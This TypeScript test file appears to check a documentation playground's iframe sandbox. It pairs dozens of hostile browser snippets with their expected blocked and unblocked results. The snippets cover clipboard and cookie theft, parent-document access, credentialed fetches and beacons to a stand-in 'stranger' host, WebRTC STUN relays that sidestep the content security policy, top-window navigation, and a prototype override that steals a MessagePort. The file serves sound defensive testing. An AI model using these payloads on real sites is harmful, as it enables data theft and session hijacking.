import type { Host } from './loopback-host.ts'

/** What a stranger's program tries, and what each attempt must come to: behind the walls, and where there are none. */
export interface Attack {
  name: string
  /** Body of an async function. What it gives or throws is told, and every directive that refused something. */
  code: string
  walled: string
  bare: string
  /** Whom the program reaches when nothing stops it. */
  reaches?: 'site' | 'stranger'
}

export interface Places {
  site: string
  stranger: string
  /** Ports of the stranger's that hear datagrams, by the attempt that is to reach them. */
  relays: Readonly<Record<string, number>>
}

/** Attempts that leave the program where it is, so that one program can make them all. */
export const attacks = (places: Places): Attack[] => [
  // With the click still fresh: the last of these uses it up.
  {
    name: 'copying',
    code: `addEventListener('copy', event => { event.clipboardData.setData('text/plain', 'stolen'); event.preventDefault() }, { once: true }); return document.execCommand('copy')`,
    walled: 'false',
    bare: 'true'
  },
  {
    name: 'copying by another spelling',
    // Firefox may still be busy with what was copied before.
    code: `addEventListener('cut', event => { event.clipboardData.setData('text/plain', 'stolen'); event.preventDefault() }); let done = false; for (let tries = 0; tries < 20 && !done; tries++) { done = document.execCommand({ toString: () => 'CUT' }); if (!done) await wait(50) } return done`,
    walled: 'false',
    bare: 'true'
  },
  {
    name: 'fullscreen',
    code: 'await document.documentElement.requestFullscreen(); const gone = document.exitFullscreen(); await gone; return "shown"',
    walled: 'TypeError',
    bare: 'shown'
  },
  { name: 'parent document', code: 'return parent.document.title', walled: 'SecurityError', bare: title },
  { name: 'top cookies', code: 'return top.document.cookie', walled: 'SecurityError', bare: 'secret=1' },
  {
    name: 'parent storage',
    code: 'return parent.localStorage.getItem("vxe-docs:banner")',
    walled: 'SecurityError',
    bare: 'closed'
  },
  { name: 'parent address', code: 'return parent.location.pathname', walled: 'SecurityError', bare: '/v3.8/' },
  { name: 'frame element', code: 'return frameElement', walled: 'null', bare: '[object HTMLIFrameElement]' },
  {
    name: 'real storage',
    code: 'return Object.getOwnPropertyDescriptor(document.body.appendChild(document.createElement("iframe")).contentWindow, "localStorage").get.call(window).getItem("vxe-docs:banner")',
    walled: 'SecurityError',
    bare: 'closed'
  },
  {
    name: 'cookies',
    code: 'document.cookie = "stolen=1"; return document.cookie.includes("stolen=1")',
    walled: 'SecurityError',
    bare: 'true'
  },
  {
    name: 'indexed database',
    code: 'return await event(indexedDB.open("a"), "success", "error")',
    walled: 'SecurityError',
    bare: 'success'
  },
  { name: 'caches', code: 'return (await caches.keys()).length', walled: 'SecurityError', bare: '0' },
  {
    name: 'service worker',
    code: `return (await navigator.serviceWorker.register("${places.site}/v3.8/planted/script?by=service worker")).active`,
    walled: 'SecurityError',
    bare: 'null',
    reaches: 'site'
  },
  { name: 'window', code: 'return open("about:blank")', walled: 'null', bare: '[object Window]' },
  { name: 'alert', code: 'return alert("a")', walled: 'undefined', bare: 'undefined' },
  { name: 'prompt', code: 'return prompt("a")', walled: 'null', bare: 'typed' },
  { name: 'confirm', code: 'return confirm("a")', walled: 'false', bare: 'true' },
  {
    name: 'clipboard',
    code: 'focus(); return await navigator.clipboard.readText()',
    walled: 'NotAllowedError',
    bare: 'stolen'
  },
  {
    name: 'place on earth',
    code: 'return await new Promise(done => navigator.geolocation.getCurrentPosition(({ coords }) => done(coords.latitude), ({ message }) => done(message)))',
    walled: 'Geolocation has been disabled in this document by permissions policy.',
    bare: '52'
  },
  {
    name: 'worker of text',
    code: 'return await event(new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))), "message", "error")',
    walled: 'error, worker-src',
    bare: 'message'
  },
  {
    name: 'worker that imports',
    code: `return await event(new Worker(URL.createObjectURL(new Blob(["importScripts('${places.stranger}/planted/script?by=worker that imports')"]))), "message", "error")`,
    walled: 'error, worker-src',
    bare: 'message',
    reaches: 'stranger'
  },
  {
    name: 'worker',
    code: `return await event(new Worker("${places.site}/planted/script?by=worker"), "message", "error")`,
    walled: 'SecurityError',
    bare: 'message',
    reaches: 'site'
  },
  {
    name: 'download',
    code: 'Object.assign(document.createElement("a"), { href: "data:text/plain,a", download: "a.txt" }).click()',
    walled: 'undefined',
    bare: 'undefined'
  },
  ...stores,
  ...relays(places),
  ...(['site', 'stranger'] as const).flatMap(host => loads(host, places[host]))
]

/** Names of the attempts that send datagrams. */
export const relayed = [
  'relay',
  'prefixed relay',
  'relay of a child frame',
  'relay of a child frame, before its insertion ends',
  'relay of a frame of text'
] as const

export const placesOf = async (site: Host, stranger: Host): Promise<Places> => ({
  site: site.origin,
  stranger: stranger.origin,
  relays: Object.fromEntries(await Promise.all(relayed.map(async name => [name, await stranger.relay(name)])))
})

/** WebRTC asks whatever server it is told to, with any text as a name. No policy of a browser is asked. */
function relays({ relays: ports }: Places): Attack[] {
  const connect = (from: string, name: string) =>
    `const { RTCPeerConnection: Peer } = { RTCPeerConnection: ${from} }; if (!Peer) return 'none'; const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${ports[name]}' }] }); peer.createDataChannel('a'); await peer.setLocalDescription(await peer.createOffer()); await wait(500); return 'asked'`
  const made = {
    relay: 'window.RTCPeerConnection',
    'prefixed relay': 'window.webkitRTCPeerConnection',
    'relay of a child frame':
      'document.body.appendChild(document.createElement("iframe")).contentWindow.RTCPeerConnection',
    'relay of a child frame, before its insertion ends':
      'await new Promise((done, failed) => document.body.append(Object.assign(document.createElement("iframe"), { onload () { try { done(window[window.length - 1].RTCPeerConnection) } catch (error) { failed(error) } } })))',
    'relay of a frame of text':
      'await new Promise((done, failed) => document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<p>", onload () { try { done(this.contentWindow.RTCPeerConnection) } catch (error) { failed(error) } } })))'
  } satisfies Record<(typeof relayed)[number], string>
  return [
    ...relayed.map(name => ({
      name,
      code: connect(made[name], name),
      walled: /frame/.test(name) ? 'SecurityError' : 'none',
      bare: 'asked',
      reaches: 'stranger' as const
    })),
    ...['WebTransport', 'PaymentRequest'].map(name => ({
      name: `constructor ${name}`,
      code: `return typeof window.${name}`,
      walled: 'undefined',
      bare: 'function'
    }))
  ]
}

/** Whatever else an origin may keep or share. */
const stores: Attack[] = [
  {
    name: 'files of the origin',
    code: 'return await navigator.storage.getDirectory()',
    walled: 'SecurityError',
    bare: '[object FileSystemDirectoryHandle]'
  },
  {
    name: 'locks',
    code: 'return await navigator.locks.request("a", () => "held")',
    walled: 'SecurityError',
    bare: 'held'
  },
  {
    name: 'cookies, one by one',
    code: 'return (await cookieStore.get("secret")).value',
    walled: 'SecurityError',
    bare: '1'
  },
  {
    name: 'writing the clipboard',
    code: 'return await navigator.clipboard.writeText("copied")',
    walled: 'NotAllowedError',
    bare: 'undefined'
  },
  {
    name: 'another page of the site',
    code: 'return parent.document.querySelector("h1").textContent',
    walled: 'SecurityError',
    bare: '演练场'
  },
  {
    name: 'rewriting the page',
    code: 'parent.document.title = "taken"; return parent.document.title',
    walled: 'SecurityError',
    bare: 'taken'
  },
  {
    name: 'listening to the page',
    code: 'parent.addEventListener("keydown", () => {}); return "listening"',
    walled: 'SecurityError',
    bare: 'listening'
  }
]

const title = 'vxe-table'

/** Everything that loads something from a host. */
function loads(host: 'site' | 'stranger', origin: string): Attack[] {
  const at = (kind: string, name: string) => JSON.stringify(`${origin}/planted/${kind}?by=${name} from the ${host}`)
  const load = (name: string, kind: string, refused: string, bare: string, code: (address: string) => string) => ({
    name: `${name} from the ${host}`,
    code: code(at(kind, name)),
    walled: refused,
    bare,
    reaches: host
  })
  const element =
    (tag: string, attribute: string, more = '', good = 'load') =>
    (address: string) =>
      `return await element("${tag}", { ${more}${attribute}: ${address} }, "${good}")`
  return [
    load(
      'fetch',
      'text',
      'TypeError, connect-src',
      'planted',
      address => `return await (await fetch(${address}, { credentials: "include" })).text()`
    ),
    load(
      'blind fetch',
      'text',
      'TypeError, connect-src',
      host === 'site' ? 'basic' : 'opaque',
      address => `return (await fetch(${address}, { mode: "no-cors" })).type`
    ),
    load(
      'request',
      'text',
      'error, connect-src',
      'planted',
      address =>
        `const x = new XMLHttpRequest(); x.open("GET", ${address}); x.send(); const came = await event(x, "load", "error"); return came === "load" ? x.responseText : came`
    ),
    load('beacon', 'text', 'true, connect-src', 'true', address => `return navigator.sendBeacon(${address}, "a")`),
    load(
      'events',
      'events',
      'error, connect-src',
      'open',
      address =>
        `const s = new EventSource(${address}); const came = await event(s, "open", "error"); s.close(); return came`
    ),
    load(
      'socket',
      'text',
      'error, connect-src',
      'open',
      address =>
        `const s = new WebSocket(${address}.replace("http", "ws")); const came = await event(s, "open", "error"); s.close(); return came`
    ),
    load('image', 'image', 'error, img-src', 'load', element('img', 'src')),
    load('script', 'script', 'error, script-src-elem', 'load', element('script', 'src')),
    load('module', 'module', 'error, script-src-elem', 'load', element('script', 'src', 'type: "module", ')),
    load(
      'import',
      'module',
      'TypeError, script-src-elem',
      'true',
      address => `return (await new Function("return import(" + JSON.stringify(${address}) + ")")()).planted`
    ),
    load('sheet', 'sheet', 'error, style-src-elem', 'load', element('link', 'href', 'rel: "stylesheet", ')),
    load(
      'sheet in a sheet',
      'sheet',
      'undefined, style-src-elem',
      'undefined',
      address => `await style('@import ' + JSON.stringify(${address}))`
    ),
    load(
      'font',
      'font',
      'NetworkError, font-src',
      'loaded',
      address => `return (await new FontFace("planted", 'url(' + JSON.stringify(${address}) + ')').load()).status`
    ),
    load(
      'background',
      'image',
      'undefined, img-src',
      'undefined',
      address => `await style('body { background: url(' + JSON.stringify(${address}) + ') }')`
    ),
    load(
      'preload',
      'script',
      'error, script-src-elem',
      'load',
      element('link', 'href', 'rel: "preload", as: "script", ')
    ),
    load('prefetch', 'script', 'error, default-src', 'load', element('link', 'href', 'rel: "prefetch", ')),
    load('image of a set', 'image', 'error, img-src', 'load', address =>
      element('img', 'srcset')(`${address}.replaceAll(" ", "%20")`)
    ),
    load('image button', 'image', 'error, img-src', 'load', element('input', 'src', 'type: "image", ')),
    load(
      'poster',
      'image',
      'undefined, img-src',
      'undefined',
      address =>
        `document.body.append(Object.assign(document.createElement("video"), { poster: ${address} })); await wait(200)`
    ),
    load(
      'cursor',
      'image',
      'undefined, img-src',
      'undefined',
      address => `await style('body { cursor: url(' + JSON.stringify(${address}) + '), auto }')`
    ),
    load(
      'list marker',
      'image',
      'undefined, img-src',
      'undefined',
      address =>
        `document.body.append(document.createElement('ul')); document.body.lastChild.append(document.createElement('li')); await style('li { list-style-image: url(' + JSON.stringify(${address}) + ') }')`
    ),
    load(
      'generated content',
      'image',
      'undefined, img-src',
      'undefined',
      address => `await style('body::after { content: url(' + JSON.stringify(${address}) + ') }')`
    ),
    load(
      'font of a sheet',
      'font',
      'undefined, font-src',
      'undefined',
      address =>
        `await style('@font-face { font-family: of-${host}; src: url(' + JSON.stringify(${address}) + ') } body { font-family: of-${host} }')`
    ),
    load(
      'drawing in a drawing',
      'image',
      'undefined, img-src',
      'undefined',
      address =>
        `document.body.insertAdjacentHTML('beforeend', '<svg><image width="1" height="1" href="' + ${address} + '"/></svg>'); await wait(200)`
    ),
    load(
      'text that is parsed',
      'image',
      'undefined, img-src',
      'undefined',
      address => `document.body.insertAdjacentHTML('beforeend', '<img src="' + ${address} + '">'); await wait(200)`
    ),
    load(
      'lasting fetch',
      'text',
      'TypeError, connect-src',
      host === 'site' ? 'basic' : 'opaque',
      address => `return (await fetch(${address}, { mode: "no-cors", keepalive: true, credentials: "include" })).type`
    ),
    load(
      'module preload',
      'module',
      'error, script-src-elem',
      'load',
      element('link', 'href', 'rel: "modulepreload", ')
    ),
    load(
      'embedded page',
      'page',
      'undefined, object-src',
      'undefined',
      address =>
        `document.body.append(Object.assign(document.createElement("embed"), { src: ${address} })); await wait(200)`
    ),
    load('sound', 'sound', 'error, media-src', 'loadeddata', element('audio', 'src', '', 'loadeddata')),
    load('frame', 'page', 'load, frame-src', 'load', element('iframe', 'src')),
    load('object', 'page', 'error, object-src', 'load', element('object', 'data')),
    load(
      'frame of text',
      'image',
      'load',
      'load',
      address => `return await element("iframe", { srcdoc: '<img src="' + ${address} + '">' })`
    ),
    load(
      'base',
      'image',
      'error, base-uri, img-src',
      'load',
      address =>
        `const b = document.createElement("base"); b.href = new URL(${address}).origin; document.head.append(b); const came = await element("img", { src: ${address}.slice(b.href.length - 1) }); b.remove(); return came`
    )
  ]
}

/** Attempts that take the page, or the program itself, to another place. Without walls each needs a page of its own. */
export function departures(stranger: string): Attack[] {
  const leave = (name: string, walled: string, code: (address: string) => string): Attack => ({
    name,
    code: code(JSON.stringify(`${stranger}/planted/page?by=${name}`)),
    walled,
    bare: '',
    reaches: 'stranger'
  })
  const form = (target: string) => (address: string) =>
    `const f = Object.assign(document.createElement("form"), { action: ${address}, method: "post", target: "${target}" }); document.body.append(f); f.submit()`
  const link = (target: string) => (address: string) =>
    `const a = Object.assign(document.createElement("a"), { href: ${address}, target: "${target}" }); document.body.append(a); a.click()`
  return [
    leave('address of the top', 'SecurityError', address => `top.location = ${address}`),
    leave('address of the parent', 'SecurityError', address => `parent.location.href = ${address}`),
    leave('replacing the top', 'SecurityError', address => `top.location.replace(${address})`),
    leave('opening in the top', 'null', address => `return open(${address}, "_top")`),
    leave('opening a window', 'null', address => `return open(${address}, "_blank")`),
    ...['_self', '_top', '_parent', '_blank'].map(target => leave(`form to ${target}`, 'undefined', form(target))),
    ...['_top', '_parent', '_blank'].map(target => leave(`link to ${target}`, 'undefined', link(target))),
    leave(
      'ping',
      'undefined, connect-src',
      address =>
        `const a = Object.assign(document.createElement("a"), { href: "#", ping: ${address} }); document.body.append(a); a.click()`
    )
  ]
}

/** The frame's program cannot keep its port from code that rewrites what it stands on; so nothing it says is believed. */
export const stealPort = `
    const own = Object.getOwnPropertyDescriptor(MessageEvent.prototype, 'data')
    const port = await new Promise(done => Object.defineProperty(MessageEvent.prototype, 'data', { configurable: true, get () { const value = own.get.call(this); if (value && value.type === 'ping') done(this.target); return value } }))
    const say = text => port.postMessage({ type: 'console', run: 1, level: 'log', parts: [{ kind: 'text', text }] })
`

/** What the program writes down when each attempt comes to what it must. */
export const told = (attempts: readonly Attack[], walls: 'walled' | 'bare' = 'walled'): string[] => [
  ...attempts.map(attempt => `${attempt.name}: ${attempt[walls]}`),
  'end'
]

/** A program that waits for a click, makes the attempts one after the other and writes down what came of each. */
export const attackProgram = (attempts: readonly Attack[]): string => `<template>
  <div><button @click="go">go</button><pre id="result">{{ lines.join('\\n') }}</pre></div>
</template>
<script>
const wait = time => new Promise(done => setTimeout(done, time))
const event = (target, good, bad) => new Promise(done => {
  for (const name of [good, bad]) target.addEventListener(name, () => done(name))
})
const element = (tag, attributes, good = 'load') => {
  const made = Object.assign(document.createElement(tag), attributes)
  const came = event(made, good, 'error')
  document.body.append(made)
  return came
}
const style = async text => {
  document.head.append(Object.assign(document.createElement('style'), { textContent: text }))
  await wait(200)
}
const refusals = new Set()
addEventListener('securitypolicyviolation', event => refusals.add(event.effectiveDirective))
const attempts = {
${attempts.map(({ name, code }) => `  ${JSON.stringify(name)}: async () => { ${code} }`).join(',\n')}
}
export default {
  data: () => ({ lines: [] }),
  methods: {
    async go () {
      for (const [name, attempt] of Object.entries(attempts)) {
        refusals.clear()
        const came = await Promise.race([attempt(), wait(5000).then(() => 'silence')]).catch(error => error.name)
        await wait(50)
        this.lines.push(name + ': ' + [String(came), ...refusals].join(', '))
      }
      this.lines.push('end')
    }
  }
}
</script>`
